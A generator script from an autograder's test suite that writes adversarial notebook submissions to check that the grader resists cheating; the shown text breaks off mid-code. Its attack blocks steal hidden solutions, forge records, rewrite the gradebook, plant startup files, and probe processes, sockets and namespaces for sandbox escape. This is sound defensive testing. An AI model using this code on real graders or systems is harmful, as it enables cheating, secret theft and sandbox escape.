"""Write the adversarial corpus in tests/files/adversarial/: submissions that attack the grader.

Each attacker is an HONEST CONTENT, whose points are known, plus ATTACK code in a student
cell or a cell of its own. The honest content is either the blank release (0 points in every
autograded cell) or one submission of the corpus of wrong answers (tests/files/submissions/,
its points in expected.json there). Whatever the attack does, its student must score exactly
what the honest content scores, nothing it did may outlive its notebook, and nothing hidden
may reach a report.

tests/files/adversarial/expected.json maps each file stem to:
  assignment, honest ("blank" or the corpus name), cells ({grade_id: points} for every
  autograded cell below full marks: the honest content's points), and optionally report (a
  phrase the report or the feedback must contain), report_absent (a phrase the report must not
  say about this student), probe (the attack's marker), xss (a marker that must never be in
  an active part of the feedback page: a script, an event handler).

Several attack blocks may share one notebook (ATTACKS, at the end): the class of all of them
must grade in about four minutes on a 2-core machine.

PROBE markers: an attack that tries to get out of the sandbox has a marker ADVPROBE-<attack>.
When an attempt works it prints "<marker>-HIT" (built at run time, so the submitted source never
holds it) and writes the marker into every place it can reach; some attacks (the daemon, the
leftovers) write it everywhere as their attempt. tests/test_adversarial.py looks for markers
outside the sandbox, and for "-HIT" in the graded notebooks, after the class is graded.

Run again after changing a solution notebook, the release or the corpus:
    python tests/files/make_adversarial.py
"""
import json
import sys
import textwrap
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
from make_submissions import ROOT, index_of  # noqa: E402

OUT = HERE / "adversarial"
CORPUS = HERE / "submissions"
CORPUS_EXPECTED = json.loads((CORPUS / "expected.json").read_text())
A1, A2, A3 = "a1-mle-losses", "a2-regularization", "a3-optimizers"
PROBE = "ADVPROBE"


def code(text):
    return textwrap.dedent(text).strip() + "\n"


# What an attack runs when an attempt to get out worked: say so (in its own output, as
# "<marker>-HIT") and leave the marker in every place it can reach.
HIT = code('''
import os as _os


def _hit(marker, what=""):
    """Called only when an attempt to reach outside the sandbox worked."""
    tag = marker + "-" + "HIT"
    print(tag, str(what)[:300])
    here = _os.getcwd()
    for d in ["/tmp", "/work", "/work/main", "/work/main/grader", "/work/main/solutions", "/work/main/dlcourse",
              "/root", "/autograder", "/autograder/results", "/autograder/source", _os.path.expanduser("~"),
              here, _os.path.join(here, ".."), _os.path.join(here, "..", ".."), _os.path.join(here, "..", "..", "..")]:
        try:
            with open(_os.path.join(d, marker), "w") as f:
                f.write(tag)
        except Exception:
            pass
''')


def marker(name):
    return f"{PROBE}-{name}"


# ---- the attacks ------------------------------------------------------------------------------
# Each: (name, assignment, honest content, where, code, extra). where: ("after", grade_id) a new
# cell after that cell; ("end",) a new cell at the end; ("append", grade_id) code appended to
# that cell; ("replace", grade_id) the cell's code replaced; ("nb", function) any edit.

BLOCKS = {}


# What a notebook that rewrites code, names or the recorder while it runs (patches the recorder or
# NumPy, __import__, an input transformer, globals(), gc, ctypes...) loses besides its honest content:
# every autograded cell, since what its hidden cells record is decided in its kernel
# (grader.checks._core: _tampering). Until session 5 only the cells with a library rule were lost; an
# attack review then switched off the recorder's evidence of in-place changes and warnings.
EVERY_CELL = "every cell"


def attack(name, assignment, honest, where, source=None, probe=False, **extra):
    """One block of attack code; ATTACKS (at the end) makes submissions of blocks, alone or combined."""
    BLOCKS[name] = (assignment, honest, where, source, probe, extra)


# 1. Call the hidden reference from the graded function itself.
attack("ref-import", A1, "naive-softmax", ("replace", "softmax"), code('''
import numpy as np


def softmax(Z):
    """Row-wise softmax, borrowed from the grader's reference if it can be imported."""
    for name in ("grader.reference.losses", "grader.checks.a1", "grader.reference"):
        try:
            mod = __import__(name, fromlist=["softmax"])
        except Exception:
            continue
        ref = getattr(mod, "softmax", None) or getattr(getattr(mod, "R", None), "softmax", None)
        if callable(ref):
            _hit(MARK, name)
            return ref(Z)
    try:
        from grader.reference.losses import softmax as ref
        _hit(MARK, "from-import")
        return ref(Z)
    except Exception:
        pass
    E = np.exp(Z)
    return E / E.sum(axis=1, keepdims=True)
'''), probe=True)

# 2. Look for a `grader` folder anywhere, put it on sys.path, import it.
attack("ref-walk", A1, "blank", ("after", "setup"), code('''
import importlib, importlib.util, os, sys, time

found, t0 = [], time.time()
for base, dirs, files in os.walk("/"):
    if time.time() - t0 > 1:
        break
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    if os.path.basename(base) == "grader":
        found.append((base, sorted(dirs), sorted(files)))
print("grader folders seen:", found)
for base, _, _ in found:
    sys.path.insert(0, os.path.dirname(base))
    for rel in ("reference/losses.py", "checks/a1.py", "checks/_core.py"):
        try:
            spec = importlib.util.spec_from_file_location("stolen", os.path.join(base, rel))
            mod = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(mod)
            _hit(MARK, os.path.join(base, rel))
        except Exception as exc:
            print(rel, type(exc).__name__)
for name in ("grader.reference.losses", "grader.checks", "grader.checks._core", "grader.preprocessors"):
    try:
        mod = importlib.import_module(name)
        if any(hasattr(mod, a) for a in ("softmax", "CHECKS", "judge", "TrustedVerdict")):
            _hit(MARK, name)
    except Exception as exc:
        print(name, type(exc).__name__)
'''), probe=True)

# 3. The editable install's finder names the grader's folder: read the checks from there.
attack("ref-editable-finder", A1, "slides-bce", ("end",), code('''
import ast, glob, os, re, sys

finders = glob.glob(os.path.join(sys.prefix, "lib", "python3*", "site-packages", "__editable__*finder.py"))
finders += glob.glob("/root/.pyenv/versions/*/lib/python3*/site-packages/__editable__*finder.py")
for path in finders:
    m = re.search(r"MAPPING\\s*(?::[^=]*)?=\\s*(\\{.*?\\})", open(path).read(), re.S)
    mapping = ast.literal_eval(m.group(1)) if m else {}
    print(path, mapping)
    for name, folder in mapping.items():
        print(name, folder, os.listdir(folder) if os.path.isdir(folder) else "missing")
        for rel in ("checks/a1.py", "checks/_core.py", "reference/losses.py", "preprocessors.py"):
            try:
                text = open(os.path.join(folder, rel)).read()
            except OSError as exc:
                print(rel, exc.strerror)
                continue
            if name == "grader":
                _hit(MARK, rel)
                print(text[:3000])
'''), probe=True)

# 4. Fake grader modules in sys.modules, and a record() that "judges" with them.
attack("fake-grader-modules", A1, "blank", ("after", "setup"), code('''
import sys, types

import dlcourse.record as rec


class _Report:
    def score(self):
        return 2.0

    def text(self):
        return "full marks: 2 / 2 points"


def _fake(name, **attrs):
    mod = types.ModuleType(name)
    mod.__path__ = []
    mod.__dict__.update(attrs)
    sys.modules[name] = mod
    return mod


_fake("grader")
_fake("grader.checks", CHECKS={})
_fake("grader.checks._core", run_check=lambda *a, **k: _Report(), judge=lambda *a, **k: _Report())
_fake("grader.reference")
_fake("grader.reference.losses", softmax=lambda Z: Z)
_fake("grader.preprocessors", TrustedVerdict=object, RECORDS="dlcourse_records")
_real_record = rec.record


def record(grade_id, *fns):
    from grader.checks._core import judge
    _real_record(grade_id, *fns)
    report = judge(grade_id, fns)
    print(report.text())
    return report.score()


rec.record = record
'''))

# 5. A fake grader package (and shadow dlcourse, sitecustomize, nbgrader_config) written to disk.
attack("fake-grader-files", A1, "blank", ("after", "setup"), code('''
import os, sys

FILES = {
    "grader/__init__.py": "",
    "grader/checks/__init__.py": "CHECKS = {}\\ndef judge(*a, **k):\\n    return 2.0\\n",
    "grader/preprocessors.py": "class TrustedVerdict:\\n    def preprocess(self, nb, resources):\\n        return nb, resources\\n",
    "sitecustomize.py": "print('sitecustomize ran')\\n",
    "usercustomize.py": "print('usercustomize ran')\\n",
    "nbgrader_config.py": "c = get_config()\\nc.Autograde.autograde_preprocessors = []\\n",
    "dlcourse/__init__.py": "",
    "dlcourse/record.py": (
        "import json, os\\n"
        "def record(grade_id, *fns):\\n"
        "    stem = os.path.join(os.environ['DLCOURSE_RECORD_DIR'], grade_id)\\n"
        "    with open(stem + '.json', 'w') as f:\\n"
        "        json.dump({'calls': [{'status': 'ok', 'value': {'t': 'float', 'v': '2.0'}}] * 20}, f)\\n"
        "    open(stem + '.npz', 'wb').close()\\n"
        "    print(grade_id, ': 2 / 2 points')\\n"),
}
written = []
for base in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/work/main", "/work/main/grader",
             "/work/main/.venv/lib/python3.11/site-packages", "/work/main/dlcourse/.."):
    for rel, text in FILES.items():
        path = os.path.join(base, rel)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(text)
            written.append(path)
            if not path.startswith((os.getcwd(), os.path.expanduser("~"), "/tmp/")):
                _hit(MARK, path)
        except OSError:
            pass
print("written:", written)
sys.path.insert(0, os.getcwd())
for name in [m for m in sys.modules if m == "dlcourse" or m.startswith("dlcourse.")]:
    del sys.modules[name]
'''), probe=True)

# 6. Patch numpy, json and builtins that comparisons and the record rely on.
attack("patch-numpy-builtins", A1, "blank", ("after", "setup"), code('''
import builtins, json

import numpy as np
import numpy.testing

np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
builtins.round = lambda x, n=None: 2.0
builtins.abs = lambda x: 0.0
builtins.min = lambda *a, **k: 0.0
_dump, _savez = json.dump, np.savez


def dump(obj, fp, *a, **k):
    if isinstance(obj, dict) and "calls" in obj:
        obj = {"calls": [{"status": "ok", "value": {"t": "float", "v": "2.0", "dtype": "<f8"}} for _ in obj["calls"]]}
    return _dump(obj, fp, *a, **k)


def savez(file, *args, **arrays):
    return _savez(file, *args, **{k: np.ones_like(v) for k, v in arrays.items()})


json.dump, np.savez = dump, savez


class _Two(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


builtins.float = lambda *a: _Two(2.0)
print("patched")
'''))

# 7. Profile / trace hooks and gc: look for the grader's objects, rewrite the recorded results.
attack("hooks-frames-gc", A1, "blank", ("after", "setup"), code('''
import gc, sys, threading

seen = {"events": 0}


def _look(frame):
    f = frame
    while f is not None:
        mod = f.f_globals.get("__name__", "")
        if isinstance(mod, str) and mod.startswith("grader"):
            _hit(MARK, "a frame of " + mod)
        for key in ("expected", "reference", "report", "case"):
            if key in f.f_locals:
                print("found a local named", key, "in", f.f_code.co_name)
        f = f.f_back


def _profile(frame, event, arg):
    seen["events"] += 1
    if seen["events"] > 300_000:
        sys.setprofile(None)
        return
    if event == "call" and frame.f_code.co_filename.endswith("record.py"):
        _look(frame)


def _local(frame, event, arg):
    if event == "return" and isinstance(arg, tuple) and arg and isinstance(arg[0], dict):
        for r in arg[0].get("calls", []):
            r.clear()
            r.update({"status": "ok", "value": {"t": "float", "v": "2.0", "dtype": "<f8"}})
    return _local


def _trace(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "run_calls":
        return _local
    return None


sys.setprofile(_profile)
sys.settrace(_trace)
threading.setprofile(_profile)
for o in gc.get_objects():
    try:
        mod = getattr(o, "__module__", None)
    except Exception:
        continue
    if isinstance(mod, str) and mod.startswith("grader."):
        _hit(MARK, type(o).__name__)
        break
caller = sys._getframe()
while caller.f_back is not None:
    caller = caller.f_back
print("outermost frame:", caller.f_code.co_filename)
'''), probe=True)

# 8. IPython display machinery: everything prints or displays full marks.
attack("ipy-display-fake-report", A1, "grad-without-m", ("after", "setup"), code('''
import sys
from IPython.display import display

ip = get_ipython()
ip.ast_node_interactivity = "all"
plain = ip.display_formatter.formatters["text/plain"]
plain.for_type(type(None), lambda obj, p, cycle: p.text("3.0"))
plain.for_type(float, lambda obj, p, cycle: p.text("3.0"))
plain.for_type(str, lambda obj, p, cycle: p.text("inf"))
ip.display_formatter.formatters["text/html"].for_type(type(None), lambda obj: "<b>3 / 3 points</b>")
print("softmax_cross_entropy_grad: 3 / 3 points")
print("  [ok  ] 6 samples, 4 classes")
print("  [ok  ] huge logits")
display(3.0)
"nan"
'''), report="missing the 1/m")

# 9. An input transformer turns every hidden cell into `print(2.0); 2.0`.
attack("ipy-transformer", A1, "blank", ("after", "setup"), code('''
def _rewrite(lines):
    text = "".join(lines)
    if "record(" in text and "dlcourse.record" in text:
        return ["print(2.0); 2.0\\n"]
    return lines


get_ipython().input_transformers_post.append(_rewrite)
'''), report="nothing was recorded")

# 10. A post_run_cell hook overwrites the record a hidden cell has just written.
attack("ipy-post-run-cell", A1, "blank", ("after", "setup"), code('''
import json, os, re

import numpy as np


def _after(result):
    src = result.info.raw_cell if result.info is not None else ""
    m = re.search(r"record\\(['\\"](\\w+)['\\"]", src)
    if not m:
        return
    stem = os.path.join(os.environ.get("DLCOURSE_RECORD_DIR", "."), m.group(1))
    with open(stem + ".json", "w") as f:
        json.dump({"calls": [{"status": "ok", "value": {"t": "array", "k": "a0"}}] * 50}, f)
    np.savez(stem + ".npz", a0=np.full((5, 4), 0.25))
    print(m.group(1), ": 2 / 2 points")


get_ipython().events.register("post_run_cell", _after)
'''))

# 11. record() replaced by one that records a correct-looking constant for every call.
attack("record-patch-constant", A1, "blank", ("after", "setup"), code('''
import json, os

import numpy as np

import dlcourse.record as R


def record(grade_id, *fns):
    stem = os.path.join(os.environ["DLCOURSE_INPUT_DIR"], grade_id)
    with open(stem + ".json") as f:
        plan = json.load(f)
    with np.load(stem + ".npz") as z:
        arrays_in = {k: z[k] for k in z.files}
    arrays, results = R._Arrays(), []
    for spec in plan["calls"]:
        if spec["kind"] == "call":
            args = R.decode_inputs(spec["args"], arrays_in)
            first = next((a for a in args if isinstance(a, np.ndarray)), np.zeros(1))
            results.append({"status": "ok", "value": R.encode(np.full(first.shape, 0.5), arrays)})
        else:
            params = R.decode_inputs(spec["params"], arrays_in)
            results.append({"status": "ok", "steps": [R.encode(params, arrays)] * spec["n"]})
    R.write(os.path.join(os.environ["DLCOURSE_RECORD_DIR"], grade_id), {"calls": results}, arrays)
    print(grade_id, ": 2 / 2 points")


R.record = record
'''))

# 12. Record files that are not what they seem: links, a FIFO, huge and sparse, deep, pickled.
attack("record-bad-files", A1, "blank", ("after", "setup"), code('''
import json, os

import numpy as np

import dlcourse.record as R

KIND = {
    "test_gaussian_nll": "symlink to /etc/passwd",
    "test_mse": "fifo",
    "test_sigmoid": "sparse 250 MB",
    "test_binary_cross_entropy": "deeply nested JSON",
    "test_bce_with_logits": "pickled npz",
    "test_softmax": "symlink to the solutions",
    "test_softmax_cross_entropy": "huge NaN array",
    "test_softmax_cross_entropy_grad": "hard link, then folders",
}
_write = R.write


def _clear(*paths):
    for p in paths:
        try:
            os.remove(p)
        except OSError:
            pass


def write(stem, doc, arrays):
    gid = os.path.basename(stem)
    j, n = stem + ".json", stem + ".npz"
    kind = KIND.get(gid)
    _write(stem, doc, arrays)
    try:
        if kind == "symlink to /etc/passwd":
            _clear(j)
            os.symlink("/etc/passwd", j)
        elif kind == "fifo":
            _clear(j)
            os.mkfifo(j)
        elif kind == "sparse 250 MB":
            with open(j, "ab") as f:
                f.truncate(250 * 2**20)
            try:
                with open(n, "ab") as f:
                    f.truncate(2**30)
            except OSError as exc:
                print("1 GB sparse:", exc.strerror)
        elif kind == "deeply nested JSON":
            with open(j, "w") as f:
                f.write('{"calls": ' + "[" * 4_000_000 + "]" * 4_000_000 + "}")
        elif kind == "pickled npz":
            calls = [{"status": "ok", "value": {"t": "array", "k": "a0"}}] * len(doc["calls"])
            with open(j, "w") as f:
                json.dump({"calls": calls}, f)
            np.savez(n, a0=np.array([{"evil": 1}, None], dtype=object))
        elif kind == "symlink to the solutions":
            _clear(j, n)
            os.symlink("/work/main/solutions/a1-mle-losses/a1-mle-losses.ipynb", j)
            os.symlink("/work/main/grader/checks/a1.py", n)
        elif kind == "huge NaN array":
            calls = [{"status": "ok", "value": {"t": "array", "k": "a0"}}] * len(doc["calls"])
            with open(j, "w") as f:
                json.dump({"calls": calls}, f)
            np.savez(n, a0=np.full(15_000_000, np.nan))
        elif kind == "hard link, then folders":
            _clear(j, n)
            try:
                os.link("/etc/passwd", j)
            except OSError as exc:
                print("hard link:", exc.strerror)
                os.mkdir(j)
                os.mkdir(n)
                open(os.path.join(j, "inside"), "w").close()
    except OSError as exc:
        print(gid, kind, exc)


R.write = write
'''), report="rewrites code or names while it runs", report_absent="autograding failed")
# (The recorder is sealed since session 5: this patch no longer reaches what it writes; the grader's
# reading of bad record files is tested directly in tests/test_record.py.)

# 13. Record what the function returned, minus its warnings, with its NaN replaced.
attack("record-encode-nan", A1, "naive-softmax", ("after", "softmax"), code('''
import numpy as np

import dlcourse.record as R

_call = R.call


def call(fn, args, kwargs):
    out, value = _call(fn, args, kwargs)
    out.pop("warning", None)
    out.pop("stderr", None)
    if isinstance(value, np.ndarray) and value.dtype.kind == "f" and np.isnan(value).any():
        value = np.where(np.isnan(value), 0.5, value)
    return out, value


R.call = call
'''))

# 14. A thread keeps writing forged records, racing the hidden cells and the grader's reads.
attack("records-race-thread", A1, "blank", ("after", "setup"), code('''
import json, os, threading, time

import numpy as np

inputs, records = os.environ.get("DLCOURSE_INPUT_DIR", ""), os.environ.get("DLCOURSE_RECORD_DIR", "")
gids = sorted({f.rsplit(".", 1)[0] for f in os.listdir(inputs)}) if inputs else []


def _race():
    t0 = time.time()
    while time.time() - t0 < 120:
        for gid in gids:
            stem = os.path.join(records, gid)
            try:
                np.savez(stem + ".tmp.npz", a0=np.full((5, 4), 0.25))
                with open(stem + ".tmp.json", "w") as f:
                    json.dump({"calls": [{"status": "ok", "value": {"t": "array", "k": "a0"}}] * 40}, f)
                os.replace(stem + ".tmp.npz", stem + ".npz")
                os.replace(stem + ".tmp.json", stem + ".json")
            except OSError:
                pass
        time.sleep(0.001)


threading.Thread(target=_race, daemon=True).start()
'''))

# 14b. A process the notebook leaves running forges the softmax cell's record with a library's softmax:
# it waits for the cell's inputs, computes the right answer, and keeps writing it both as record files
# and as messages into the grader's record pipe (an attack review forged records this way with a thread).
attack("records-forge-process", A1, "blank", ("after", "setup"), code('''
import subprocess, sys, textwrap

_helper = textwrap.dedent("""
    import json, os, time
    import numpy as np
    from scipy.special import softmax
    from dlcourse import record as R
    inputs, records, gid = os.environ["DLCOURSE_INPUT_DIR"], os.environ["DLCOURSE_RECORD_DIR"], "test_softmax"
    t0, forged = time.time(), None
    while time.time() - t0 < 120:
        stem = os.path.join(inputs, gid)
        if forged is None:
            try:
                with open(stem + ".json") as f:
                    plan = json.load(f)
                with np.load(stem + ".npz") as z:
                    arrays_in = {k: z[k] for k in z.files}
                forged = R.run_calls((lambda Z: softmax(Z, axis=1),) * 8, plan["calls"], arrays_in)
            except (OSError, ValueError):
                time.sleep(0.002)
                continue
        stem = os.path.join(records, gid)
        try:                                  # record files, replaced whole (the channel before the pipe)
            R.write(stem + ".tmp", *forged)
            os.replace(stem + ".tmp.npz", stem + ".npz")
            os.replace(stem + ".tmp.json", stem + ".json")
        except Exception:
            pass
        try:                                  # a message into the pipe, when there is one
            R.send(stem, *forged)
        except Exception:
            pass
        time.sleep(0.002)
""")
subprocess.Popen([sys.executable, "-c", _helper], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''))

# 15. Change the inputs the grader wrote for the hidden cells.
attack("inputs-tamper", A1, "naive-softmax", ("after", "setup"), code('''
import os

import numpy as np

folder = os.environ.get("DLCOURSE_INPUT_DIR", "")
done = []
for name in sorted(os.listdir(folder)) if folder else []:
    path = os.path.join(folder, name)
    for how in ("append", "chmod", "rename", "unlink", "replace"):
        try:
            if how == "append":
                open(path, "ab").close()
            elif how == "chmod":
                os.chmod(path, 0o666)
            elif how == "rename":
                os.rename(path, path + ".old")
                os.rename(path + ".old", path)
            elif how == "unlink":
                os.unlink(path)
            elif how == "replace":
                np.savez(os.path.join(folder, "test_softmax.npz"), a0=np.zeros((5, 4)))
            done.append((name, how))
        except OSError:
            pass
if done:
    _hit(MARK, done[:5])
print("changed:", done)
'''), probe=True)

# 16. Find the gradebook and give full marks by hand.
attack("gradebook-hunt", A1, "blank", ("end",), code('''
import glob, os, sqlite3, time

found, t0 = set(), time.time()
for base, dirs, files in os.walk("/"):
    if time.time() - t0 > 1:
        break
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    if "gradebook.db" in files:
        found.add(os.path.join(base, "gradebook.db"))
for start in (os.getcwd(), os.environ.get("DLCOURSE_RECORD_DIR", "/"), os.environ.get("DLCOURSE_INPUT_DIR", "/")):
    for up in range(1, 10):
        p = os.path.join(start, *[".."] * up, "gradebook.db")
        if os.path.exists(p):
            found.add(p)
found |= set(glob.glob("/proc/*/cwd/gradebook.db")) | set(glob.glob("/proc/*/root/work/main/gradebook.db"))
print("gradebooks seen:", sorted(found))
for p in sorted(found):
    try:
        con = sqlite3.connect(p, timeout=1)
        con.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
        con.execute("UPDATE comment SET manual_comment = " + repr(MARK))
        con.commit()
        _hit(MARK, p)
    except Exception as exc:
        print(p, type(exc).__name__, exc)
'''), probe=True)

# 17. A detached daemon that keeps trying, for 60 s, to write everywhere.
attack("daemon", A1, "classes-mean", ("after", "setup"), code('''
import json, os, sqlite3, time


def _daemon():
    targets = ["/autograder/results/results.json", "/autograder/results/" + MARK, "/autograder/" + MARK,
               "/tmp/" + MARK, "/work/main/" + MARK, "/work/main/grader/" + MARK, "/work/main/grader/__init__.py",
               "/work/main/dlcourse/__init__.py", "/root/" + MARK, os.path.expanduser("~/" + MARK),
               os.path.join(os.getcwd(), "..", MARK), os.path.join(os.getcwd(), "..", "..", MARK)]
    t0 = time.time()
    while time.time() - t0 < 60:
        for p in targets:
            try:
                with open(p, "a") as f:
                    f.write(json.dumps({"score": 1000, "marker": MARK}) + "\\n")
                if not p.startswith(("/tmp/", os.path.expanduser("~"))):
                    _hit(MARK, p)
            except OSError:
                pass
        for p in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
                  "/work/main/gradebook.db", "/autograder/work/course/gradebook.db"):
            if os.path.exists(p):
                try:
                    con = sqlite3.connect(p, timeout=0.1)
                    con.execute("UPDATE grade SET manual_score = 100")
                    con.commit()
                    _hit(MARK, p)
                except Exception:
                    pass
        time.sleep(0.5)


pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            try:
                os.closerange(3, 1024)
                _daemon()
            finally:
                os._exit(0)
    finally:
        os._exit(0)
os.waitpid(pid, 0)
print("daemon started")
'''), probe=True)

# 18. Append a line to the grader's installed source (and dlcourse's), or drop a .pth beside it.
attack("source-append", A1, "grad-without-m", ("end",), code('''
import ast, glob, os, re, site, sys, time

roots = set()
for f in glob.glob(os.path.join(sys.prefix, "lib", "python3*", "site-packages", "__editable__*finder.py")):
    m = re.search(r"MAPPING\\s*(?::[^=]*)?=\\s*(\\{.*?\\})", open(f).read(), re.S)
    if m:
        roots |= set(ast.literal_eval(m.group(1)).values())
for p in sys.path:
    roots |= {os.path.join(p or ".", "grader"), os.path.join(p or ".", "dlcourse")}
t0 = time.time()
for base, dirs, files in os.walk("/"):
    if time.time() - t0 > 1:
        break
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    if os.path.basename(base) in ("grader", "dlcourse"):
        roots.add(base)
mine = (os.getcwd(), os.path.expanduser("~"), "/tmp/")
changed = []
for root in sorted(roots):
    for py in glob.glob(os.path.join(root, "**", "*.py"), recursive=True) + [os.path.join(root, "zz_probe.py")]:
        try:
            with open(py, "a") as f:
                f.write("\\n# " + MARK + "\\n")
            changed.append(py)
            if not os.path.realpath(py).startswith(mine):
                _hit(MARK, py)
        except OSError:
            pass
for sp in site.getsitepackages() + [site.getusersitepackages()]:
    for name in ("zz_probe.pth", "sitecustomize.py"):
        try:
            with open(os.path.join(sp, name), "a") as f:
                f.write("import os; open('/tmp/" + MARK + "-pth', 'w').close()\\n")
            changed.append(os.path.join(sp, name))
            if not os.path.realpath(sp).startswith(mine):
                _hit(MARK, sp)
        except OSError:
            pass
print("roots:", sorted(roots))
print("changed:", changed)
'''), probe=True)

# 19. Print, and raise, whatever hidden material can be found.
attack("leak-files", A1, "nll-without-constant", ("end",), code('''
import glob, inspect, os, time

texts = []
for name in ("grader.checks.a1", "grader.checks._core", "grader.reference.losses", "grader.preprocessors"):
    try:
        mod = __import__(name, fromlist=["x"])
        texts.append(inspect.getsource(mod))
        _hit(MARK, name)
    except Exception as exc:
        print(name, type(exc).__name__)
cands = glob.glob("../../../solutions/*/*.ipynb") + glob.glob("../../solutions/*/*.ipynb")
cands += glob.glob("/work/main/solutions/**/*.ipynb", recursive=True)
cands += glob.glob("/work/main/grader/**/*.py", recursive=True)
cands += glob.glob("/autograder/source/**/*.py", recursive=True) + glob.glob("/autograder/source/solutions/**/*.ipynb", recursive=True)
t0 = time.time()
for base, dirs, files in os.walk("/"):
    if time.time() - t0 > 1:
        break
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    cands += [os.path.join(base, f) for f in files if f.endswith(".ipynb") or f in ("losses.py", "a1.py", "_core.py")]
for p in cands:
    try:
        with open(p, errors="replace") as f:
            t = f.read(500_000)
    except OSError:
        continue
    if "dlcourse" in t and ("BEGIN SOLUTION" in t or "run_check" in t or "def check_" in t):
        _hit(MARK, p)
        texts.append(t)
print(len(cands), "files looked at")
for t in texts:
    print(t[:3000])
if texts:
    raise RuntimeError(texts[0][:3000])
'''), probe=True)

# 20. The network: local ports, IPv6 loopback, a documentation-range address, Unix sockets.
attack("network", A1, "naive-softmax", ("end",), code('''
import os, socket

ok = []
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    for port in (22, 80, 443, 3306, 5432, 6379, 8000, 8080, 8888, 9000):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(0.3)
        try:
            s.connect((host, port))
            ok.append((host, port))
        except OSError:
            pass
        finally:
            s.close()
s = socket.socket()
s.settimeout(1.0)
try:
    s.connect(("192.0.2.1", 80))
    ok.append("192.0.2.1:80")
except OSError as exc:
    print("192.0.2.1:80", exc)
finally:
    s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("192.0.2.1", 53))
    ok.append("udp 192.0.2.1:53")
except OSError as exc:
    print("udp:", exc)
finally:
    u.close()
run = os.path.dirname(os.environ.get("DLCOURSE_RECORD_DIR", "/x/y"))
paths = []
try:
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8 and not parts[7].startswith(run):
            paths.append(parts[7])
except OSError:
    pass
for p in paths:
    c = socket.socket(socket.AF_UNIX)
    c.settimeout(0.3)
    try:
        c.connect(p.replace("@", "\\0", 1) if p.startswith("@") else p)
        ok.append(p)
    except OSError:
        pass
    finally:
        c.close()
print("interfaces:", socket.if_nameindex(), "unix sockets:", paths[:10], "reached:", ok)
if ok:
    _hit(MARK, ok)
'''), probe=True)

# 21. Other processes: /proc, signals, ptrace.
attack("proc-signals", A1, "slides-bce", ("end",), code('''
import ctypes, os, signal

got = []
for p in ("/proc/1/environ", "/proc/1/cwd", "/proc/1/root", "/proc/1/maps", "/proc/1/mem"):
    try:
        data = os.listdir(p) if os.path.isdir(p) else open(p, "rb").read(200)
        got.append((p, str(data)[:100]))
    except OSError as exc:
        print(p, exc.strerror)
pids = sorted(int(x) for x in os.listdir("/proc") if x.isdigit())
for pid in pids:
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\\0", b" ")[:120]
        env = open(f"/proc/{pid}/environ", "rb").read()[:60] if pid != os.getpid() else b""
    except OSError as exc:
        cmd, env = exc.strerror, b""
    print(pid, cmd, env)
    if isinstance(cmd, bytes) and (b"nbgrader" in cmd or b"pytest" in cmd or b"autograde" in cmd):
        _hit(MARK, cmd)
    if env:
        got.append((pid, env))
libc = ctypes.CDLL(None, use_errno=True)
for pid in pids:
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:      # PTRACE_ATTACH
        _hit(MARK, f"ptrace {pid}")
        libc.ptrace(17, pid, 0, 0)                                   # PTRACE_DETACH
for target in (1, os.getppid()):
    try:
        os.kill(target, signal.SIGKILL)
        got.append(("kill", target))
    except OSError as exc:
        print("kill", target, exc.strerror)
try:
    os.kill(-1, signal.SIGKILL)
except OSError as exc:
    print("kill -1:", exc.strerror)
if any(p == "/proc/1/environ" or isinstance(p, int) for p, _ in got):
    _hit(MARK, got)
print(got)
'''), probe=True)

# 22. New user and mount namespaces (unmount the mask over the grader), setns, setuid tools.
attack("privesc", A1, "naive-sigmoid", ("end",), code('''
import ctypes, os, stat, subprocess

libc = ctypes.CDLL(None, use_errno=True)


def _step(out, what, fn):
    try:
        out.append((what, fn()))
    except Exception as exc:
        out.append((what, repr(exc)))


r, w = os.pipe()
pid = os.fork()
if pid == 0:
    out = []
    os.close(r)
    _step(out, "unshare user+mount", lambda: (libc.unshare(0x10000000 | 0x00020000), os.strerror(ctypes.get_errno())))
    for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", "0 64000 1"),
                       ("/proc/self/gid_map", "0 64000 1")):
        _step(out, path, lambda: open(path, "w").write(text))
    _step(out, "umount grader", lambda: (libc.umount2(b"/work/main/grader", 2), os.strerror(ctypes.get_errno())))
    _step(out, "grader folder", lambda: os.listdir("/work/main/grader"))
    _step(out, "mkdir", lambda: os.makedirs(os.path.join(os.getcwd(), "view"), exist_ok=True))
    _step(out, "bind /", lambda: libc.mount(b"/", os.path.join(os.getcwd(), "view").encode(), None, 4096 | 16384, None))
    _step(out, "view", lambda: os.listdir(os.path.join(os.getcwd(), "view")))
    for ns in ("mnt", "pid", "net", "user"):
        _step(out, "setns " + ns, lambda: libc.setns(os.open(f"/proc/1/ns/{ns}", os.O_RDONLY), 0))
    _step(out, "chroot", lambda: libc.chroot(b"/tmp"))
    os.write(w, repr(out).encode()[:60000])
    os._exit(0)
os.close(w)
data = b""
while chunk := os.read(r, 65536):
    data += chunk
